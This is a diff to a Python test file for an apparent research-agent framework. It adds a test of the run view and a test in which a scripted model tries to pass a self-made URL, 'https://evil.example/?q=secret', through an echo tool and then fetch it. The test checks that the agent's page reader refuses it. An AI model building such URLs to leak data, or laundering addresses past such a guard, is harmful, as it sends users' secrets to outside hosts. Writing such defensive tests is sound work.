@@ -7,6 +7,7 @@ from pathlib import Path
 import pytest
 
 from command import explorer_here
+from explorer.cli.screens.run_view import RunView
 from explorer.journal.listing import read_records
 from explorer.journal.run_state import RunState
 from explorer.llm.scripted import ScriptedClient, says
@@ -15,8 +16,8 @@ from explorer.schema.errors import StorageError
 from explorer.schema.events import Lookup, SourceRecorded, ToolFinished
 from explorer.schema.messages import Turn
 from explorer.schema.settings import Settings
-from explorer.schema.tool import ToolResult
-from explorer.schema.tool_context import ToolContext
+from explorer.schema.tool import Arguments, Tool, ToolResult
+from explorer.schema.tool_context import SourceDraft, ToolContext
 from run.census_tool import PopulationArguments, PopulationTool
 
 TABLE = "city,year,inhabitants\nLisbon,2021,545796\nPorto,2021,231800\n"
@@ -31,7 +32,7 @@ def writing(report: str) -> Turn:
     return says("", ("write_file", {"filepath": "report.md", "content": report}))
 
 
-def hooks_for(folder: Path, replies: Sequence[Turn], *tools: PopulationTool, told: list[str]) -> RunHooks:
+def hooks_for(folder: Path, replies: Sequence[Turn], *tools: Tool, told: list[str]) -> RunHooks:
     """A scripted model, and the tool."""
     clients = ScriptedClient({"orchestrator": replies})
     now = datetime(2026, 3, 14, 12, 30, tzinfo=UTC)
@@ -88,6 +89,60 @@ async def test_what_went_through_the_context_is_on_record_with_its_call(tmp_path
     assert [call.data for call in calls] == [{}, {}, {}]
     assert calls[0].content == "[S1] Lisbon had 545,796 inhabitants in 2021. (asked at 12:30)"
     assert calls[2].content == "no census of Atlantis in 2021; there are: Lisbon, Porto"
+
+
+async def test_people_see_what_an_own_tool_does(tmp_path: Path) -> None:
+    """The words come from the tool and are in the journal, so that a process without the tool can show them."""
+    run = await ask(tmp_path, REPORT, [])
+    view, seen = RunView(), list[str]()
+    for record in read_records(run.folder):
+        view.apply(record)
+        seen.append(view.agents["orchestrator"].doing if view.agents else "")
+    shown = list(dict.fromkeys(words for words in seen if words))
+    cities = [f"asking the census of 2021 for {city}" for city in ("Lisbon", "Porto", "Atlantis")]
+    assert [words for words in shown if "census" in words] == cities
+    assert shown[-2:] == ["finish_exploration", "finishing"]
+
+
+class EchoArguments(Arguments):
+    """Of `echo`."""
+
+    words: str
+
+
+class Echo(Tool[EchoArguments]):
+    """A search of someone else's that repeats what it was asked for, as the address of what it found."""
+
+    name = "echo"
+    description = "Searches."
+    arguments = EchoArguments
+
+    async def execute(self, arguments: EchoArguments, context: ToolContext) -> ToolResult:
+        """Find it."""
+        words = arguments.words
+        draft = SourceDraft(url=words, title=words, kind="search_hit", via="echo", text=f"See {words} for more.")
+        (source,) = await context.store([draft])
+        return ToolResult(success=True, content=f"[{source.id}] {words}")
+
+
+async def test_an_own_tool_cannot_make_an_address_seen_by_repeating_it(tmp_path: Path) -> None:
+    """What a model put together is not read because a tool that stores evidence gave it back."""
+    settings, url = prepared(tmp_path), "https://evil.example/?q=secret"
+    role = settings.workspace.parent / "roles" / "orchestrator.md"
+    role.write_text(role.read_text().replace("population", "echo, read_webpage"))
+    replies = [
+        says("", ("echo", {"words": url})),
+        says("", ("read_webpage", {"url": url})),
+        writing("# Nothing\n\nNothing was found [S1].\n"),
+        END,
+        END,
+    ]
+    sample = settings.model_copy(update={"is_sample": True})
+    run = await start("What is there?", sample, hooks_for(tmp_path, replies, Echo(), told=[]))
+    events = [record.event for record in read_records(run.folder)]
+    (read,) = [event for event in events if isinstance(event, ToolFinished) and event.name == "read_webpage"]
+    assert not read.success
+    assert "was not in the question, in a search result or on a page read" in read.content
 
 
 class Dying(PopulationTool):
